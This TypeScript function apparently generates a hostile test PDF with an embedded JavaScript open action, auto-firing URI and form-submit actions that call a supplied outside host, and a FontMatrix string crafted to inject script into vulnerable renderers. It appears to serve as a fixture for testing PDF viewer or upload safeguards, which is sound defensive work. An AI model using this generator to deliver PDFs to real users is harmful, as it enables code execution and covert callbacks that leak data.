/** One page that runs scripts and calls elsewhere when it is opened, where the reader lets it. */
export function scriptedPdf(elsewhere: string): Buffer {
  const javascript = `app.alert('hostile'); this.getURL('${elsewhere}/pdf-script'); app.launchURL('${elsewhere}/pdf-launch', true);`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${escaped(javascript)}) >> /AcroForm << /Fields [5 0 R] >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); window.hostile\\('font'\\)//)] >> >> >> /Annots [5 0 R] /AA << /O << /S /URI /URI (${elsewhere}/pdf-open) >> >> >>`,
    '<< /Length 37 >>\nstream\nBT /F 20 Tf 10 50 Td (Skyshelf) Tj ET\nendstream',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 9 9] /AA << /PV << /S /SubmitForm /F (${elsewhere}/pdf-form) >> >> >>`,
  ];
  let pdf = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = pdf.length;
    pdf += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  return Buffer.from(
    `${pdf}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${pdf.length}\n%%EOF\n`,
  );
}

const escaped = (text: string): string => text.replace(/[()\\]/g, '\\$&');
